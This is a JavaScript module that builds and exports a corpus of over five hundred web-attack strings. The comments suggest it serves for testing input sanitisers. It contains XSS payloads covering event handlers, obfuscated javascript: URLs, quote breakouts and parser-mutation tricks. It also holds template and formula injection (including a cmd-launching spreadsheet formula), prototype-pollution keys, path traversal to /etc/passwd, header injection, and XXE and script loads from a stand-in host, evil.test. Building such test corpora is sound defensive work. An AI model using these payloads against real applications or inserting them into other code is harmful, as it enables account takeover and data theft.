// What somebody hostile writes where a name, a note or a link is asked for. Each calls ran() if it runs anywhere.

const RUN = 'ran()';

const handlers = ['onerror', 'onload', 'autofocus onfocus', 'ontoggle', 'onanimationstart', 'onpointerover', 'onbegin', 'onpageshow'];

const elements = [
  'img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x', 'input', 'select', 'textarea', 'marquee', 'object data=x', 'embed src=x',
  'iframe src=x', 'link rel=stylesheet href=x', 'math', 'svg><animate attributeName=x dur=1s', 'x contenteditable', 'button popovertarget=x',
];

const schemes = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `java\tscript:${RUN}`, `java&#10;script:${RUN}`, `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `javascript:/*https://*/${RUN}`, `javascript://example.org/%0A${RUN}`, `javascript%3A${RUN}`,
  `%6Aavascript:${RUN}`, `\u0001javascript:${RUN}`, `\u200bjavascript:${RUN}`, `\u202ejavascript:${RUN}`, `javascript\u2028:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`, `livescript:${RUN}`, `mocha:${RUN}`, `jar:javascript:${RUN}!/`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`,
  `blob:${RUN}`, `file:///${RUN}`, `filesystem:${RUN}`, `//evil.test/${RUN}`, `\\\\evil.test\\${RUN}`, `https:javascript:${RUN}`, `http://evil.test/${RUN}`,
  `https://evil.test@javascript:${RUN}`, `mailto:x@y?body=<script>${RUN}</script>`, `tel:1"onclick="${RUN}`, `https://example.org/"onclick="${RUN}`,
];

const around = [(to) => to, (to) => `<a href="${to}">x</a>`, (to) => `<iframe src="${to}"></iframe>`, (to) => `<form action="${to}"><button>x`, (to) => `[x](${to})`,
  (to) => `<svg><a xlink:href="${to}"><text>x`, (to) => `<object data='${to}'>`, (to) => `<meta http-equiv=refresh content="0;url=${to}">`];

const outOf = ['"', "'", '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '*/', '\u2028', '`', '${', '\\', '\\"', "\\'", '&quot;>', '%22%3E', '\\u0022\\u003e'];

const into = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, ` onpointerover=${RUN} x=`, `;${RUN}//`, `}${RUN};{`];

// Text that a second parser reads otherwise than the first one.
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style>`, `<template><script>${RUN}</script></template>`, `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror=${RUN}>-->`, `<!--!><img src=x onerror=${RUN}>`, `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<a href="x\u0000javascript:${RUN}">x`.replaceAll('\u0000', '&#0;'), `<img src=1 href=1 onerror="${RUN}"></img>`, `<p is=x onclick=${RUN}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;">`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x">`,
  `<style>@import'//evil.test/${RUN}'</style>`, `<div style="background:url(javascript:${RUN})">`, `<base href="//evil.test/">`, `<script src=//evil.test/x.js>`, `<link rel=import href=//evil.test>`,
];

// What other programs take for a formula, a template or a member that is there.
const others = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%7*7%}', '[[${7*7}]]', '@(7*7)', `=HYPERLINK("javascript:${RUN}","x")`, '=cmd|\'/c calc\'!A0', '@SUM(1)', '+1+1', '-1+1', '\\input{x}',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', '{"__proto__":{"html":1}}', `constructor.constructor("${RUN}")()`, '{{constructor.constructor("ran()")()}}',
  '%0d%0aSet-Cookie: x=y', '../../../etc/passwd', '..%2f..%2f', 'CON', 'x.html', 'x.svg', 'x\u202elmth.docx', `<?xml-stylesheet href="javascript:${RUN}"?>`, `<!DOCTYPE x [<!ENTITY x SYSTEM "//evil.test">]>&x;`,
];

const made = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=${RUN}>`)),
  ...around.flatMap((wrap) => schemes.map(wrap)),
  ...outOf.flatMap((out) => into.map((inner) => out + inner)),
  ...mutating,
  ...others,
];

/** More than five hundred, each once. */
export const payloads = [...new Set(made)];
